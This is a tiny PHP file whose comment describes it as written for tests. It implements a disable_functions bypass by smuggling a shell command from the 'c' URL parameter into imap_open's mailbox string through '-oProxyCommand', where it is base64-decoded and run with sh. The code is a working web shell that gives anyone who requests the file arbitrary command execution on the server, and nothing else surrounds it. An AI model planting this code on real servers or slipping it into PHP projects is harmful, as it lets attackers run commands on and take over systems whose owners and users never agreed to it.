<?php
// disable_functions bypass through imap_open's rsh command (written for the tests, never run)
$c = base64_encode($_GET['c']);
@imap_open('{localhost:143/imap -oProxyCommand=`echo ' . $c . '|base64 -d|sh`}INBOX', '', '');
